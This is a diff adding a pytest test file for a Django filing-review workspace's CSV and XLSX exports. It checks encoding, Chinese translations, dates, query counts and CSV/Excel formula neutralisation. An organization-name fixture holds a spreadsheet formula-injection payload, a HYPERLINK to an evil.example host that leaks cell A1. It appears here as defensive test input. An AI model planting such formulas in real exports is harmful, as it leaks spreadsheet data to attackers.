@@ -1,0 +1,306 @@
+"""The review workspace's exports: CSV that Excel opens in Chinese, a real XLSX workbook, no formula
+smuggled in through an organization's name, and one query whatever the number of filings."""
+
+import csv
+import io
+from datetime import date, datetime
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+import time_machine
+from django.conf import settings
+from django.db import connection
+from django.db.models import Case, IntegerField, Value, When
+from django.test.utils import CaptureQueriesContext
+from django.utils import translation
+
+from filings import exports
+from filings.models import Filing, Jurisdiction
+from filings.review_scope import filings_visible_to
+from tests.factories import OrganizationFactory, UserFactory
+
+pytestmark = pytest.mark.django_db
+SHANGHAI = ZoneInfo("Asia/Shanghai")
+UTC = ZoneInfo("UTC")
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
+ENGLISH_HEADERS = [
+    "Receipt number",
+    "Filing number",
+    "Organization",
+    "Unified social credit code",
+    "City",
+    "Kind",
+    "Status",
+    "Submitted at",
+    "Review due",
+    "Filed late",
+    "Warnings",
+    "Office",
+]
+
+
+@pytest.fixture(autouse=True)
+def _frozen_today():
+    with time_machine.travel(datetime(2026, 3, 15, 10, 0, tzinfo=SHANGHAI), tick=False):
+        yield
+
+
+@pytest.fixture
+def filings():
+    """A filed Shenzhen filing (submitted at 00:30 China time, 16:30 UTC the day before), a
+    Nanshan one with a hostile name, and a Xiantao one routed to Hubei; plus a draft."""
+    shenzhen = OrganizationFactory(name="深圳市甲科技有限公司", address_division="440300")
+    hostile = OrganizationFactory(name=HOSTILE, address_division="440305")
+    xiantao = OrganizationFactory(name="@SUM(1+1)", address_division="429004")
+    regime = settings.FILING_REGIME
+    office = Jurisdiction.objects.get(code="440300")
+    made = [
+        Filing.objects.create(
+            organization=shenzhen,
+            kind=Filing.Kind.INITIAL,
+            status=Filing.Status.FILED,
+            regime=regime,
+            office=office,
+            receipt_number="FR20260301000001",
+            filing_number="网信人脸备440300202600001号",
+            submitted_at=datetime(2026, 3, 1, 16, 30, tzinfo=UTC),
+            review_due=date(2026, 3, 20),
+            late=True,
+            warning_count=2,
+        ),
+        Filing.objects.create(
+            organization=hostile,
+            kind=Filing.Kind.INITIAL,
+            status=Filing.Status.SUBMITTED,
+            regime=regime,
+            office=office,
+            receipt_number="FR20260302000002",
+            submitted_at=datetime(2026, 3, 2, 1, 0, tzinfo=UTC),
+            review_due=date(2026, 3, 21),
+        ),
+        Filing.objects.create(
+            organization=xiantao,
+            kind=Filing.Kind.INITIAL,
+            status=Filing.Status.UNDER_REVIEW,
+            regime=regime,
+            office=Jurisdiction.objects.get(code="420000"),
+            receipt_number="FR20260303000003",
+            submitted_at=datetime(2026, 3, 3, 1, 0, tzinfo=UTC),
+        ),
+    ]
+    Filing.objects.create(
+        organization=shenzhen,
+        kind=Filing.Kind.INITIAL,
+        status=Filing.Status.DRAFT,
+        regime=regime,
+        office=office,
+    )
+    return made
+
+
+def scoped():
+    root = UserFactory(email="root@cac.example", is_staff=True, is_superuser=True)
+    return filings_visible_to(root).order_by("receipt_number")
+
+
+def csv_table(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+# --- CSV -----------------------------------------------------------------------------------------
+
+
+def test_csv_has_a_bom_english_headers_and_one_row_per_visible_filing(filings):
+    with translation.override("en"):
+        response = exports.csv_response(scoped(), "filings-20260315-1000.csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="filings-20260315-1000.csv"'
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    table = csv_table(response)
+    assert table[0] == ENGLISH_HEADERS
+    assert len(table) == 4  # the draft is not there
+    assert table[1] == [
+        "FR20260301000001",
+        "网信人脸备440300202600001号",
+        "深圳市甲科技有限公司",
+        filings[0].organization.uscc,
+        "Shenzhen",
+        "Initial filing",
+        "Filed",
+        "2026-03-02 00:30",  # China time
+        "2026-03-20",
+        "Yes",
+        "2",
+        "Shenzhen Cyberspace Office",
+    ]
+    assert table[2][4] == "Shenzhen"  # Nanshan district, city of Shenzhen
+    assert table[2][9] == "No"
+    assert table[3][4] == "Xiantao"
+    assert table[3][8] == ""  # no review due date
+    assert table[3][11] == "Hubei Cyberspace Office"
+
+
+def test_csv_in_chinese_round_trips_the_names(filings):
+    response = exports.csv_response(scoped(), "备案导出.csv")
+    assert response["Content-Disposition"] == (
+        "attachment; filename*=utf-8''%E5%A4%87%E6%A1%88%E5%AF%BC%E5%87%BA.csv"
+    )
+    table = csv_table(response)
+    assert table[1][2] == "深圳市甲科技有限公司"
+    assert table[1][4] == "深圳市"
+    assert table[1][9] == "是"
+    assert table[1][11] == "深圳市网信办"
+    assert table[1][5:7] == ["首次备案", "已备案"]
+    assert table[0][0] == "回执编号"  # headers reuse the fields' translated names
+
+
+def test_csv_neutralises_formulas(filings):
+    table = csv_table(exports.csv_response(scoped(), "f.csv"))
+    assert table[2][2] == "'" + HOSTILE
+    assert table[3][2] == "'@SUM(1+1)"
+    for row in table:
+        for cell in row:
+            assert not cell.startswith(exports.FORMULA_PREFIXES)
+
+
+@pytest.mark.parametrize(
+    ("value", "guarded"),
+    [
+        ("=1+1", True),
+        ("+1", True),
+        ("-1", True),
+        ("@A1", True),
+        ("\t=1", True),
+        ("\r=1", True),
+        ("深圳=1", False),
+        ("1-1", False),
+        ("", False),
+    ],
+)
+def test_which_text_is_guarded(value, guarded):
+    assert exports.is_formula_like(value) is guarded
+    assert exports._csv_cell(value) == ("'" + value if guarded else value)
+
+
+# --- XLSX ----------------------------------------------------------------------------------------
+
+
+def test_xlsx_is_a_workbook_with_a_frozen_header_and_real_dates(filings):
+    with translation.override("en"):
+        response = exports.xlsx_response(scoped(), "filings.xlsx")
+    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
+    assert response["Content-Disposition"] == 'attachment; filename="filings.xlsx"'
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert sheet.title == "Filings"
+    assert sheet.freeze_panes == "A2"
+    assert sheet.column_dimensions["C"].width == exports.WIDTHS["organization"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert list(rows[0]) == ENGLISH_HEADERS
+    assert sheet["A1"].font.b
+    assert len(rows) == 4
+    assert list(rows[1]) == [
+        "FR20260301000001",
+        "网信人脸备440300202600001号",
+        "深圳市甲科技有限公司",
+        filings[0].organization.uscc,
+        "Shenzhen",
+        "Initial filing",
+        "Filed",
+        datetime(2026, 3, 2, 0, 30),  # China time, a real date
+        datetime(2026, 3, 20),
+        "Yes",
+        2,
+        "Shenzhen Cyberspace Office",
+    ]
+    assert sheet["H2"].is_date
+    assert sheet["H2"].number_format == exports.DATETIME_FORMAT
+    assert sheet["I2"].number_format == exports.DATE_FORMAT
+    assert rows[3][8] is None
+
+
+def test_xlsx_writes_formula_like_names_as_text(filings):
+    content = exports.xlsx_response(scoped(), "f.xlsx").content
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    for coordinate, expected in (("C3", HOSTILE), ("C4", "@SUM(1+1)")):
+        cell = sheet[coordinate]
+        assert cell.value == expected  # the exact name, without an apostrophe
+        assert cell.data_type == "s"  # text, never a formula
+        assert cell.quotePrefix  # and Excel keeps it text when edited
+    assert sheet["C2"].value == "深圳市甲科技有限公司"
+    assert not sheet["C2"].quotePrefix
+    assert b"<f>" not in content  # no formula element anywhere in the file
+    for row in sheet.iter_rows():
+        assert all(cell.data_type != "f" for cell in row)
+
+
+def test_xlsx_drops_control_characters_instead_of_failing(filings):
+    organization = filings[0].organization
+    organization.name = "深圳\x07甲公司\x00"
+    organization.save()
+    content = exports.xlsx_response(scoped(), "f.xlsx").content
+    assert openpyxl.load_workbook(io.BytesIO(content)).active["C2"].value == "深圳甲公司"
+
+
+# --- Bounded queries -----------------------------------------------------------------------------
+
+
+def many(n: int, start: int) -> None:
+    organizations = [
+        OrganizationFactory(address_division=code) for code in ("440300", "440100", "429004")
+    ]
+    office = Jurisdiction.objects.get(code="440300")
+    Filing.objects.bulk_create(
+        Filing(
+            organization=organizations[i % 3],
+            kind=Filing.Kind.INITIAL,
+            status=Filing.Status.SUBMITTED,
+            regime=settings.FILING_REGIME,
+            office=office,
+            receipt_number=f"FR-B{start + i:08d}",
+            submitted_at=datetime(2026, 3, 1, 9, tzinfo=SHANGHAI),
+            review_due=date(2026, 3, 20),
+            data={"organization": {"name": "x" * 1000}},  # never read by the export
+        )
+        for i in range(n)
+    )
+
+
+def queries_of(export, filings_queryset) -> tuple[int, bytes]:
+    with CaptureQueriesContext(connection) as queries:
+        response = export(filings_queryset, "f")
+    return len(queries), response.content
+
+
+@pytest.mark.parametrize("export", [exports.csv_response, exports.xlsx_response])
+def test_exports_run_one_query_with_5_or_500_filings(export):
+    root = UserFactory(email="root@cac.example", is_staff=True, is_superuser=True)
+    many(5, 0)
+    with_5, _content = queries_of(export, filings_visible_to(root))
+    many(495, 5)
+    with_500, content = queries_of(export, filings_visible_to(root))
+    assert with_5 == with_500 == 1
+    if export is exports.csv_response:
+        assert len(content.decode("utf-8-sig").splitlines()) == 501
+    else:
+        assert openpyxl.load_workbook(io.BytesIO(content)).active.max_row == 501
+
+
+def test_exports_keep_the_changelist_order_and_annotations(filings):
+    """The admin passes its changelist queryset: annotated with an urgency and ordered by it."""
+    urgency = Case(
+        When(status=Filing.Status.UNDER_REVIEW, then=Value(0)),
+        When(status=Filing.Status.SUBMITTED, then=Value(1)),
+        default=Value(2),
+        output_field=IntegerField(),
+    )
+    root = UserFactory(email="root@cac.example", is_staff=True, is_superuser=True)
+    queryset = filings_visible_to(root, Filing.objects.annotate(urgency=urgency)).order_by(
+        "urgency", "pk"
+    )
+    table = csv_table(exports.csv_response(queryset, "f.csv"))
+    assert [row[0] for row in table[1:]] == [
+        "FR20260303000003",
+        "FR20260302000002",
+        "FR20260301000001",
+    ]
